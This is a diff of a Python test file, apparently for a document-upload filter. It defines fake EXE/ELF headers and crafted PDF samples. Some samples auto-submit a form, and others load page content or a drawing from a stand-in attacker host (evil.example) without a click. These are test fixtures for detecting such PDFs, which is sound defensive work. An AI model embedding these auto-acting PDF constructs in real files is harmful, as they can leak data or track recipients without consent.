@@ -11,7 +11,7 @@ from PIL import Image
 from pypdf import PdfWriter
 from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
 
-from media.uploads.office import MAIN
+from media.uploads.office_lists import MAIN
 
 EXE = b"MZ\x90\x00" + bytes(200) + b"This program cannot be run in DOS mode"
 ELF = b"\x7fELF\x02\x01\x01" + bytes(200)
@@ -125,6 +125,18 @@ STARTING = {  # actions that leave the document without a click
     "a web page when its page is shown": pdf_of(GO_TO, f"<</O {LINK}>>", page="/AA 5 0 R"),
     "a form that is sent when the pointer comes near": pdf_of(
         GO_TO, page="/Annots [<</Subtype /Widget /AA <</E <</S /SubmitForm /F (https://evil.example/)>> >> >>]"
+    ),
+}
+
+
+LOADING = {  # streams whose content is in another file
+    "a page in another file": pdf_of(
+        GO_TO, "<</Length 0 /F (//evil.example/a)>>\nstream\n\nendstream", page="/Contents 5 0 R"
+    ),
+    "a drawing in another file": pdf_of(
+        GO_TO,
+        "<</Subtype /Form /Length 0 /Ref <</F (//evil.example/a.pdf) /Page 0>> >>\nstream\n\nendstream",
+        page="/Resources <</XObject <</A 5 0 R>> >>",
     ),
 }
 
